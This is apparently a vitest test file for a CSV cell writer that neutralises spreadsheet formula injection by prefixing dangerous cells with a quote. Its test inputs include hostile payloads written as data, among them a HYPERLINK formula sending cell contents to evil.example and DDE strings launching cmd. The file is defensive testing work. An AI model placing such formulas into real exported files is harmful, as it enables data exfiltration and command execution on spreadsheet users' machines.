import { describe, expect, it } from "vitest";
import { csvCell, csvLine } from "./csv";

/** One CSV cell read back as RFC 4180 says (quoted: outer quotes off, doubled quotes single). */
const readCell = (written: string) =>
  written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written;

describe("csvCell: formula injection (OWASP)", () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
    ],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-1+1", "'-1+1"],
    ["-1", "'-1"], // text that looks like a number is still text
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", `"'\r=1+1"`],
    ["\n=1+1", `"'\n=1+1"`],
    ["  =1+1", "'  =1+1"],
    ["\u00a0=1", "'\u00a0=1"],
    ["\uff1d1+1", "'\uff1d1+1"], // full-width =
    ["\uff20SUM(A1)", "'\uff20SUM(A1)"], // full-width @
  ])("prefixes the text %j", (text, written) => {
    expect(csvCell(text)).toBe(written);
    // and a CSV reader gets the text back with the one quote in front
    expect(readCell(csvCell(text))).toBe(`'${text}`);
  });

  it("writes numbers and booleans as values: a negative number is not a formula", () => {
    expect(csvLine([-1, -0.25, 0, 1e-7, true, false, null, undefined])).toBe(
      "-1,-0.25,0,1e-7,true,false,,",
    );
  });

  it("leaves ordinary text alone and quotes separators", () => {
    expect(csvLine(["baseline", "qps 500 · c8", "a,b", 'say "hi"', "x=1", "1-2", ""])).toBe(
      'baseline,qps 500 · c8,"a,b","say ""hi""",x=1,1-2,',
    );
  });
});
